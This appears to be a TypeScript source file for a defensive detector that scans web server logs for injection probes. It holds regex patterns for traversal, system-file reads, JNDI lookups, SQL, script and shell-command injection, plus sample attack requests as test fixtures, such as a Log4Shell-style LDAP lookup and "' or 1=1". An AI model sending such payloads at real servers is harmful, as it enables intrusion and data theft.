// Requests that carry the usual attempts at injection: traversal, SQL, scripts, lookups, commands.
import { detach } from "../entry.ts";
import { sharedName } from "../shared-names.ts";
import type { Detector } from "./detector.ts";
import { requested, series } from "./example-lines.ts";
import { spanText } from "./login.ts";

interface Probe {
  readonly name: string;
  readonly pattern: RegExp;
  /** Nobody asks for this by accident; of the others it takes two. */
  readonly certain: boolean;
}

const probes: readonly Probe[] = [
  // Matches `../../` in all its encodings; refuses one step up, as in links that were joined badly.
  {
    name: "path traversal",
    pattern: /(?:(?:\.|%2e|%252e){2}(?:[/\\]|%2f|%5c|%252f|%255c)){2}/i,
    certain: true,
  },
  // Matches files that only an attacker asks a web server for; refuses pages about them, which have a longer name.
  {
    name: "system file",
    pattern: /(?:\/|%2f)(?:etc(?:\/|%2f)passwd|proc(?:\/|%2f)self(?:\/|%2f)environ)(?![\w-])/i,
    certain: true,
  },
  // Matches lookups as of Log4Shell, also nested ones; refuses `${name}` of templates.
  {
    name: "JNDI lookup",
    pattern: /(?:\$|%24)(?:\{|%7b)(?:jndi(?::|%3a)|(?:\$|%24)(?:\{|%7b)(?:lower|upper|env|::-))/i,
    certain: true,
  },
  // Matches `union select`, `' or 1=1`, `sleep(5)` and schema tables; refuses the single words of a search.
  {
    name: "SQL injection",
    pattern:
      /union(?:[\s+]|%20|\/\*\*\/)(?:all(?:[\s+]|%20|\/\*\*\/))?select(?![a-z])|(?:'|%27)(?:[\s+]|%20)?or(?:[\s+]|%20)(?:'|%27)?\d|(?:sleep|benchmark|pg_sleep)(?:\(|%28)\d|information_schema|xp_cmdshell|waitfor(?:[\s+]|%20)delay/i,
    certain: false,
  },
  // Matches script tags and event handlers in a query; refuses the word script alone.
  {
    name: "script injection",
    pattern: /(?:<|%3c)(?:script|svg|img|iframe)(?![a-z])|(?:on(?:error|load)|srcdoc)(?:=|%3d)/i,
    certain: false,
  },
  // Matches calls of shells and wrappers of PHP; refuses names of pages.
  {
    name: "command injection",
    pattern:
      /\/bin\/(?:ba)?sh(?![a-z])|cmd\.exe|php:(?:\/|%2f){2}(?:input|filter)|auto_prepend_file|(?:;|%3b|\||%7c)(?:wget|curl|cat|id|uname)(?:[\s+]|%20|$)/i,
    certain: false,
  },
];

// What every probe has at least one of; the paths of ordinary requests mostly have none.
const suspicious =
  /[%<'$;|]|\.\.|etc\/|proc\/|cmd\.|\/bin\/|union|schema|sleep|_file|php:|waitfor|onerror|onload|srcdoc|xp_|benchmark/i;

const span = 600_000;
const maxAddresses = 5000;
const longestQuery = 4096;

interface Suspect {
  readonly line: number;
  readonly time: number;
  readonly name: string;
  readonly text: string;
}

export const injectionProbe: Detector = {
  id: "injection-probe",
  title: "A request tries an injection",
  description:
    "A request whose path or query holds a path traversal over two steps, a system file or a JNDI lookup; or two different requests of one client address within ten minutes " +
    "that hold SQL, script tags or shell commands. Once per address in ten quiet minutes. Single words of a search, one step up and " +
    "encoded letters are left alone.",
  concerns: "requests",
  get examples() {
    return [
      {
        title: "A traversal out of the folder of downloads",
        lines: [
          requested(0),
          requested(1, { address: "203.0.113.9", path: "/download?file=../../../../etc/passwd", status: 400 }),
          requested(2, { address: "203.0.113.9", path: "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow", status: 400 }),
        ],
        raises: [{ line: 2, key: "203.0.113.9" }],
      },
      {
        title: "A lookup in a query",
        lines: [requested(0, { address: "203.0.113.9", path: "/search?q=$%7Bjndi:ldap://203.0.113.9/a%7D" })],
        raises: [{ line: 1, key: "203.0.113.9" }],
      },
      {
        title: "Two attempts at SQL",
        lines: ["/item?id=1'+or+1=1--", "/item?id=1+union+select+1,2"].map((path, second) =>
          requested(second, { address: "203.0.113.9", path, status: 500 }),
        ),
        raises: [{ line: 2, key: "203.0.113.9" }],
      },
      {
        title: "People who search for odd things",
        lines: [
          requested(0, { address: "192.0.2.7", path: "/search?q=western+union+select+branches" }),
          requested(1, { address: "192.0.2.8", path: "/search?q=don%27t+sleep" }),
          requested(2, { address: "192.0.2.9", path: "/blog/../images/logo%20small.png" }),
          requested(3, { address: "192.0.2.9", path: "/docs/etc/passwd-files.html" }),
          ...series(5, 1, (second) => requested(4 + second, { path: "/price?format=${currency}" })),
        ],
        raises: [],
      },
    ];
  },
  start() {
    const suspects = new Map<string, Suspect>();
    const silentUntil = new Map<string, number>();
    return {
      observe({ address, path, status, time, line, text }, report) {
        if (path === undefined || status === undefined) return;
        const target = targetOf(text, path);
        if (!suspicious.test(target)) return;
        const probe = probes.find(({ pattern }) => pattern.test(target));
        if (!probe || address === undefined || Number.isNaN(time)) return;
        const until = silentUntil.get(address) ?? -Infinity;
        const silent = time < until && until - time <= span;
        if (silent) return void silentUntil.set(address, time + span);
        const before = suspects.get(address);
        const recent = before && Math.abs(time - before.time) <= span ? before : undefined;
        if (!probe.certain && (!recent || recent.text === target)) {
          if (suspects.size >= maxAddresses) suspects.clear();
          if (!recent) suspects.set(sharedName(address), { line, time, name: probe.name, text: detach(target) });
          return;
        }
        if (silentUntil.size >= maxAddresses) silentUntil.clear();
        silentUntil.set(sharedName(address), time + span);
        suspects.delete(address);
        const after = recent ? ` ${spanText(time - recent.time)} after an attempt at ${recent.name}` : "";
        report({
          key: address,
          severity: status < 400 ? "ERROR" : "WARN",
          message: `${address} tries an injection (${probe.name})${after}, answered with ${status}; check whether that answer gave anything away, and block the address.`,
          evidence: recent ? [recent.line, line] : [line],
        });
      },
      settles: ({ path, status, text }) =>
        path === undefined || status === undefined || !suspicious.test(targetOf(text, path)),
    };
  },
};

/** What was asked for, with the query behind the path that stands in the line; entries keep the path alone. */
function targetOf(text: string, path: string): string {
  const start = path === "" ? -1 : text.indexOf(path);
  const query = start + path.length;
  if (start < 0 || text.charCodeAt(query) !== 63) return path;
  let end = query;
  while (end < text.length && text.charCodeAt(end) !== 34 && text.charCodeAt(end) !== 32) end++;
  return text.slice(start, Math.min(end, query + longestQuery));
}
